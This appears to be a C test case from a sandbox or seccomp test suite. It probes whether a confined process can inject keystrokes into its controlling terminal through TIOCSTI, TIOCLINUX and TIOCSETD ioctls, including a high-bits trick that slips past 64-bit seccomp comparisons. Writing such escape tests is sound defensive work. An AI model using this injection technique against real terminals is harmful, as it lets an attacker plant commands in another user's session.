/*
 * id: A12
 * attack: types into the terminal that it was given, so that whoever uses it next reads a line that nobody wrote
 * walls: seccomp
 * also: user, capability
 * effect: the byte can be read from the terminal as if someone had typed it
 * verdict: AC
 */
#include "facts.h"

#include <fcntl.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>

/* A 64-bit comparison of the request lets these pass; the kernel itself reads 32 bits. */
#define HIGH_BITS 0x7fffffff00000000L

static void attempt_both(const char *name, const char *with_high_bits, long request, const void *argument) {
  attempt(name, syscall(SYS_ioctl, 0, request, argument));
  attempt(with_high_bits, syscall(SYS_ioctl, 0, request | HIGH_BITS, argument));
}

int main(void) {
  const char byte = '\n', subcode = 3;
  const int discipline = 0;
  attempt_both("TIOCSTI", "TIOCSTI with high bits", 0x5412L, &byte);
  attempt_both("TIOCLINUX", "TIOCLINUX with high bits", 0x541CL, &subcode);
  attempt_both("TIOCSETD", "TIOCSETD with high bits", 0x5423L, &discipline);
  attempt("a second terminal", open("/dev/pts/ptmx", O_RDWR | O_NOCTTY));
  attempt("somebody else's console", syscall(SYS_ioctl, 0, TIOCCONS));
  struct pollfd typed = {0, POLLIN, 0};
  printf("{\"terminal\":%d,\"typed\":%d}\n", isatty(0), poll(&typed, 1, 0) == 1);
  return 0;
}
